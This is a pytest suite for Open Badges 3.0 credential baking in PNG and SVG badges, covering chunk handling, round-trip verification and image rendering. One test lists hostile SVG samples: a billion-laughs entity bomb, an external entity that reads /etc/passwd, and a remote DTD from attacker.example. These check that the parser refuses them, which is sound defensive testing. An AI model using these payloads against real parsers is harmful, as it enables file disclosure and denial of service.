"""Open Badges 3.0 baking (OB 3.0 §5.3): PNG iTXt ``openbadgecredential`` and SVG ``<openbadges:credential>``.

Checked against things nobody here wrote: the spec's own baked SVG examples (verbatim below),
and Pillow's independent PNG ``iTXt`` reader and writer.
"""

from __future__ import annotations

import io
import json
import struct
import xml.etree.ElementTree as ET
import zlib
from typing import Any

import pytest
from factories import FIXTURES, NOW
from PIL import Image, PngImagePlugin

from issuer.badge_image import (
    SIZE,
    SVG_SERIF,
    BadgeFace,
    baked_badge_png,
    baked_badge_svg,
    render_badge_png,
    render_badge_svg,
)
from issuer.credential import Bilingual
from issuer.demo_data import demo_institution, demo_micro_major
from verifier import verify_credential
from verifier.baking import (
    MAX_IMAGE_BYTES,
    PNG_KEYWORD,
    PNG_SIGNATURE,
    SVG_NAMESPACE,
    BakingError,
    NotBakedError,
    bake_png,
    bake_svg,
    unbake,
    unbake_png,
    unbake_svg,
)

SIGNED = FIXTURES / "golden" / "signed.json"
STATUS_CLEAR = FIXTURES / "negative" / "status-list-clear.json"

# OB 3.0 §5.3.2.1 "An example of a well baked SVG with embedded proof", verbatim.
SPEC_SVG_EMBEDDED_PROOF = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg"
  xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"
  viewBox="0 0 512 512">
  <openbadges:credential>
    <![CDATA[
      {
        "@context": [
          "https://www.w3.org/2018/credentials/v1",
          "https://purl.imsglobal.org/spec/ob/v3p0/context"
        ],
        "id": "http://example.edu/credentials/3732",
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "issuer": {
          "id": "https://example.edu/issuers/565049",
          "type": "IssuerProfile",
          "name": "Example University"
        },
        "issuanceDate": "2010-01-01T00:00:00Z",
        "credentialSubject": {
          "id": "did:example:ebfeb1f712ebc6f1c276e12ec21"
        },
        "proof": { }
      }
    ]]>
  </openbadges:credential>

  <!-- rest-of-image -->
</svg>
"""

# OB 3.0 §5.3.2.1 "An example of a well baked SVG with VC-JWT proof", verbatim.
SPEC_SVG_VC_JWT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg"
  xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"
  viewBox="0 0 512 512">
  <openbadges:credential verify="header.payload.signature"></openbadges:credential>

  <!-- rest-of-image -->
</svg>
"""

PLAIN_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" data-note="a &gt; b, 'quoted>'">
  <rect width="10" height="10" fill="#1d3557"/>
</svg>
"""


def _signed() -> dict[str, Any]:
    document: dict[str, Any] = json.loads(SIGNED.read_text("utf-8"))
    return document


def _png(width: int = 8, height: int = 8) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), "#1d3557").save(out, "PNG")
    return out.getvalue()


def _chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    chunks = []
    offset = len(PNG_SIGNATURE)
    while offset < len(png):
        (length,) = struct.unpack_from(">I", png, offset)
        kind = png[offset + 4 : offset + 8]
        chunks.append((kind, png[offset + 8 : offset + 8 + length]))
        offset += 12 + length
    return chunks


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _itxt(keyword: str, text: bytes, *, compressed: bool = False) -> bytes:
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    return _chunk(b"iTXt", keyword.encode("latin-1") + b"\0" + flag + b"\0\0" + text)


def _insert_before_iend(png: bytes, *chunks: bytes) -> bytes:
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + b"".join(chunks) + png[iend:]


def _xml(data: bytes) -> ET.Element:
    """Our own baked output, read by the standard library's independent parser."""
    return ET.fromstring(data)  # noqa: S314 - trusted: what the test itself just baked


def _error(call: Any, *args: Any) -> str:
    with pytest.raises(BakingError) as caught:
        call(*args)
    message = caught.value.message
    assert message.render("zh") != message.render("en")  # translated
    return message.render("en")


# --- PNG --------------------------------------------------------------------------------------


def test_png_baking_writes_one_uncompressed_itxt_chunk_before_iend() -> None:
    baked = bake_png(_png(), _signed())
    chunks = _chunks(baked)
    assert [kind for kind, _ in chunks][-2:] == [b"iTXt", b"IEND"]
    credential_chunks = [body for kind, body in chunks if kind == b"iTXt"]
    assert len(credential_chunks) == 1
    keyword, rest = credential_chunks[0].split(b"\0", 1)
    # keyword, compression flag 0, method 0, empty language tag, empty translated keyword (§5.3.1)
    assert keyword == b"openbadgecredential"
    assert rest[:4] == b"\x00\x00\x00\x00"
    assert json.loads(rest[4:].decode("utf-8")) == _signed()


def test_baked_png_reads_back_and_still_verifies() -> None:
    baked = unbake_png(bake_png(_png(), _signed()))
    assert (baked.format, baked.image_type) == ("json", "png")
    result = verify_credential(
        json.loads(baked.text), now=NOW, status_lists={"x": json.loads(STATUS_CLEAR.read_text("utf-8"))}
    )
    assert result.check("proof").ok


def test_pillow_reads_the_chunk_we_write() -> None:
    image = Image.open(io.BytesIO(bake_png(_png(), _signed())))
    image.load()
    assert json.loads(image.text[PNG_KEYWORD]) == _signed()  # type: ignore[attr-defined]


def test_we_read_the_chunk_pillow_writes() -> None:
    text = json.dumps(_signed(), ensure_ascii=False)
    info = PngImagePlugin.PngInfo()
    info.add_itxt(PNG_KEYWORD, text, zip=False)
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "PNG", pnginfo=info)
    assert unbake(out.getvalue()).text == text


def test_a_compressed_chunk_is_refused_as_the_spec_forbids_compression() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_itxt(PNG_KEYWORD, json.dumps(_signed()), zip=True)
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "PNG", pnginfo=info)
    assert "compressed" in _error(unbake_png, out.getvalue())


def test_baking_an_already_baked_png_is_refused_unless_replacing() -> None:
    baked = bake_png(_png(), _signed())
    assert "already carries" in _error(bake_png, baked, _signed())
    replaced = bake_png(baked, {"replacement": True}, replace=True)
    assert sum(kind == b"iTXt" for kind, _ in _chunks(replaced)) == 1
    assert json.loads(unbake_png(replaced).text) == {"replacement": True}


def test_baking_keeps_every_other_chunk() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "kept")
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "PNG", pnginfo=info)
    before = _chunks(out.getvalue())
    after = _chunks(bake_png(out.getvalue(), _signed()))
    assert [chunk for chunk in after if chunk[0] != b"iTXt"] == before


def test_baking_takes_credential_json_text_as_it_is_but_refuses_other_text() -> None:
    text = '{"id": "urn:uuid:1",  "name": "粉体"}'
    assert unbake_png(bake_png(_png(), text)).text == text
    with pytest.raises(ValueError, match="not valid JSON"):
        bake_png(_png(), "header.payload.signature")
    with pytest.raises(ValueError, match="JSON object"):
        bake_png(_png(), "[1, 2]")
    with pytest.raises(TypeError):
        bake_png(_png(), 42)  # type: ignore[arg-type]


def test_two_credential_chunks_are_refused() -> None:
    png = _insert_before_iend(_png(), _itxt(PNG_KEYWORD, b'{"a":1}'), _itxt(PNG_KEYWORD, b'{"b":2}'))
    assert "2 baked credentials" in _error(unbake_png, png)


def test_a_png_without_a_credential_is_not_baked() -> None:
    with pytest.raises(NotBakedError):
        unbake_png(_png())


def test_an_open_badges_2_png_is_named_as_such() -> None:
    png = _insert_before_iend(_png(), _itxt("openbadges", b'{"type": "Assertion"}'))
    with pytest.raises(NotBakedError, match=r"Open Badges 2\.0"):
        unbake_png(png)


@pytest.mark.parametrize(
    ("damage", "expected"),
    [
        (lambda png: png[: len(png) // 2], "truncated"),
        (lambda png: png[:-12], "truncated"),
        (lambda png: png[:8], "truncated"),
        (lambda png: png + b"trailing", "after its IEND"),
        (lambda png: b"GIF89a" + png[6:], "not a PNG"),
        (lambda png: png[:8] + _chunk(b"tEXt", b"a\0b") + png[8:], "IHDR"),
        (
            lambda png: _insert_before_iend(png, struct.pack(">I", 2**31 - 1) + b"iTXt" + b"x" * 64),
            "truncated",
        ),
        (
            lambda png: _insert_before_iend(png, struct.pack(">I", 2**32 - 1) + b"iTXt" + b"x" * 64),
            "bad chunk header",
        ),
        (lambda png: _insert_before_iend(png, _chunk(b"iT;t", b"")), "bad chunk header"),
        (lambda png: png + b"\0" * MAX_IMAGE_BYTES, "at most"),
    ],
    ids=[
        "half",
        "no-iend",
        "signature-only",
        "trailing-data",
        "not-png",
        "no-ihdr-first",
        "gigantic-chunk",
        "length-over-2^31",
        "bad-chunk-type",
        "too-large",
    ],
)
def test_damaged_pngs_are_refused_clearly(damage: Any, expected: str) -> None:
    assert expected in _error(unbake_png, damage(bake_png(_png(), _signed())))


def test_a_crc_error_is_refused() -> None:
    png = bytearray(bake_png(_png(), _signed()))
    position = png.index(b"openbadgecredential") + 40
    png[position] ^= 0x01
    assert "CRC" in _error(unbake_png, bytes(png))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"x" * (512 * 1024 + 1), "at most"),
        (b"\xff\xfe{}", "UTF-8"),
        (b"   ", "empty"),
    ],
    ids=["oversized-credential", "not-utf8", "empty"],
)
def test_unusable_credential_text_is_refused(text: bytes, expected: str) -> None:
    assert expected in _error(unbake_png, _insert_before_iend(_png(), _itxt(PNG_KEYWORD, text)))


def test_a_malformed_itxt_with_our_keyword_is_not_taken_for_a_credential() -> None:
    png = _insert_before_iend(_png(), _chunk(b"iTXt", PNG_KEYWORD.encode() + b"\0\0"))
    with pytest.raises(NotBakedError):
        unbake_png(png)


def test_a_vc_jwt_png_is_read_as_vc_jwt() -> None:
    png = _insert_before_iend(_png(), _itxt(PNG_KEYWORD, b"header.payload.signature"))
    assert unbake_png(png).format == "vc-jwt"


# --- SVG --------------------------------------------------------------------------------------


def test_the_specs_baked_svg_example_unbakes() -> None:
    baked = unbake_svg(SPEC_SVG_EMBEDDED_PROOF)
    assert (baked.format, baked.image_type) == ("json", "svg")
    credential = json.loads(baked.text)
    assert credential["id"] == "http://example.edu/credentials/3732"
    assert credential["issuer"]["name"] == "Example University"


def test_the_specs_vc_jwt_svg_example_unbakes_as_vc_jwt() -> None:
    baked = unbake(SPEC_SVG_VC_JWT)
    assert (baked.format, baked.text) == ("vc-jwt", "header.payload.signature")


def test_svg_baking_follows_the_spec_and_an_independent_parser_reads_it() -> None:
    baked = bake_svg(PLAIN_SVG, _signed())
    root = _xml(baked)
    # xmlns:openbadges on <svg>, and <openbadges:credential> directly after the <svg> tag (§5.3.2)
    assert f'xmlns:openbadges="{SVG_NAMESPACE}"' in baked.decode()
    assert root[0].tag == f"{{{SVG_NAMESPACE}}}credential"
    assert "verify" not in root[0].attrib
    assert b"<openbadges:credential><![CDATA[{" in baked
    assert json.loads(root[0].text or "") == _signed()
    assert root[1].tag == "{http://www.w3.org/2000/svg}rect"  # the image is untouched


def test_baked_svg_reads_back_and_still_verifies() -> None:
    baked = unbake_svg(bake_svg(PLAIN_SVG, _signed()))
    result = verify_credential(json.loads(baked.text), now=NOW)
    assert result.check("proof").ok


def test_svg_baking_keeps_the_rest_of_the_document_byte_for_byte() -> None:
    baked = bake_svg(PLAIN_SVG, {"a": 1})
    head, _, tail = PLAIN_SVG.partition(b">\n  <rect")
    assert baked.startswith(head)
    assert baked.endswith(b"\n  <rect" + tail)


def test_cdata_end_markers_inside_the_credential_survive() -> None:
    credential = {"name": "a]]>b", "more": "]]>]]>"}
    baked = bake_svg(PLAIN_SVG, credential)
    assert json.loads(unbake_svg(baked).text) == credential
    assert json.loads(_xml(baked)[0].text or "") == credential


def test_characters_xml_forbids_are_escaped_in_the_json() -> None:
    credential = {"name": "a\ufffeb"}
    baked = bake_svg(PLAIN_SVG, json.dumps(credential, ensure_ascii=False))
    assert json.loads(unbake_svg(baked).text) == credential


def test_a_self_closing_svg_root_is_baked() -> None:
    baked = bake_svg(b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="1"/>', {"a": 1})
    root = _xml(baked)
    assert root[0].tag == f"{{{SVG_NAMESPACE}}}credential"
    assert baked.endswith(b"</svg:svg>")


def test_an_svg_that_already_declares_the_namespace_is_not_declared_twice() -> None:
    stripped = SPEC_SVG_EMBEDDED_PROOF.replace(b"<openbadges:credential>", b"<!--").replace(
        b"</openbadges:credential>", b"-->"
    )
    baked = bake_svg(stripped, {"a": 1})
    assert baked.count(b"xmlns:openbadges") == 1
    assert json.loads(unbake_svg(baked).text) == {"a": 1}


def test_rebaking_an_svg_is_refused_unless_replacing() -> None:
    assert "already carries" in _error(bake_svg, SPEC_SVG_EMBEDDED_PROOF, {"a": 1})
    for source in (SPEC_SVG_EMBEDDED_PROOF, SPEC_SVG_VC_JWT):
        replaced = bake_svg(source, {"a": 1}, replace=True)
        root = _xml(replaced)
        assert [child.tag for child in root].count(f"{{{SVG_NAMESPACE}}}credential") == 1
        assert json.loads(unbake_svg(replaced).text) == {"a": 1}


def test_an_open_badges_2_svg_is_named_and_not_rebaked_over() -> None:
    ob2 = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:assertion verify="https://example.org/a.json"/></svg>'
    )
    with pytest.raises(NotBakedError, match=r"Open Badges 2\.0"):
        unbake_svg(ob2)
    assert "http://openbadges.org" in _error(bake_svg, ob2, {"a": 1})


def test_only_utf8_svgs_are_baked() -> None:
    latin = b'<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    assert "UTF-8" in _error(bake_svg, latin, {"a": 1})


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY a "lol">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">&c;</openbadges:credential></svg>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">&secret;</openbadges:credential></svg>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>
"""


@pytest.mark.parametrize(
    ("svg", "expected"),
    [
        (BILLION_LAUGHS, "entities"),
        (EXTERNAL_ENTITY, "entities"),
        (PARAMETER_ENTITY, "entities"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "not well-formed"),
        (b"<html><svg xmlns='http://www.w3.org/2000/svg'/></html>", "not an SVG"),
        (b"<svg><g/></svg>", "not an SVG"),  # no SVG namespace
        (
            SPEC_SVG_VC_JWT.replace(b"</svg>", b"<openbadges:credential>{}</openbadges:credential></svg>"),
            "2 baked",
        ),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "no baked credential"),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:o='https://purl.imsglobal.org/ob/v3p0'>"
            b"<o:credential>  </o:credential></svg>",
            "empty",
        ),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>" + b" " * MAX_IMAGE_BYTES + b"</svg>", "at most"),
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "parameter-entity",
        "not-well-formed",
        "not-svg-root",
        "no-svg-namespace",
        "two-credentials",
        "nothing-baked",
        "empty-credential",
        "too-large",
    ],
)
def test_hostile_or_unusable_svgs_are_refused_clearly(svg: bytes, expected: str) -> None:
    assert expected in _error(unbake_svg, svg)


def test_the_credential_is_found_under_any_prefix_bound_to_the_namespace() -> None:
    svg = (
        b"<svg xmlns='http://www.w3.org/2000/svg'><g><ob:credential "
        b"xmlns:ob='https://purl.imsglobal.org/ob/v3p0'><![CDATA[{\"a\": 1}]]></ob:credential></g></svg>"
    )
    assert json.loads(unbake(svg).text) == {"a": 1}


# --- the badge image (issuer side) ---------------------------------------------------------------


def _face() -> BadgeFace:
    return BadgeFace.of(demo_institution("did:key:z6Mk-test"), demo_micro_major())


def test_the_png_badge_is_a_round_medallion_with_the_names_drawn() -> None:
    image = Image.open(io.BytesIO(render_badge_png(_face())))
    assert image.format == "PNG"
    assert image.size == (SIZE, SIZE)
    image = image.convert("RGBA")
    assert image.getpixel((2, 2))[3] == 0  # type: ignore[index]  # transparent outside the circle
    assert image.getpixel((SIZE // 2, SIZE // 2))[3] == 255  # type: ignore[index]
    # The centre (the micro-major's name) and the top of the band (the university) carry text.
    centre = image.crop((150, 240, 450, 330)).convert("L")
    band = image.crop((150, 20, 450, 90)).convert("L")
    for area in (centre, band):
        low, high = area.getextrema()  # type: ignore[misc]
        assert high - low > 150


def test_different_names_draw_different_badges() -> None:
    one = render_badge_png(BadgeFace(Bilingual("示范科技大学"), Bilingual("粉体材料智能制造")))
    other = render_badge_png(BadgeFace(Bilingual("示范科技大学"), Bilingual("数字贸易")))
    assert one != other


def test_the_svg_badge_is_well_formed_with_a_cjk_font_list_and_escaped_names() -> None:
    face = BadgeFace(
        Bilingual("示范<科技>&大学", "A & B <University>"),
        Bilingual("粉体材料智能制造", "Powder & Co"),
        "X&Y",
    )
    svg = render_badge_svg(face)
    root = _xml(svg)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    text = "".join(root.itertext())
    assert "示范<科技>&大学" in text
    assert "A & B <UNIVERSITY>" in text
    assert "Powder & Co" in text
    assert "'Noto Serif CJK SC'" in SVG_SERIF
    assert SVG_SERIF.endswith("serif")
    assert f'font-family="{SVG_SERIF}"' in svg.decode()


def test_baked_badges_carry_the_signed_credential() -> None:
    for baked in (baked_badge_png(_face(), _signed()), baked_badge_svg(_face(), _signed())):
        assert json.loads(unbake(baked).text) == _signed()


def test_very_long_names_still_render() -> None:
    face = BadgeFace(
        Bilingual("哈尔滨工业大学（威海）" * 3, "Harbin Institute of Technology at Weihai " * 3),
        Bilingual("人工智能与大数据应用创新实践" * 4, "Artificial Intelligence and Big Data " * 6),
        "WZY-" + "X" * 60,
    )
    assert Image.open(io.BytesIO(render_badge_png(face))).size == (600, 600)
    assert "…" in "".join(_xml(render_badge_svg(face)).itertext())
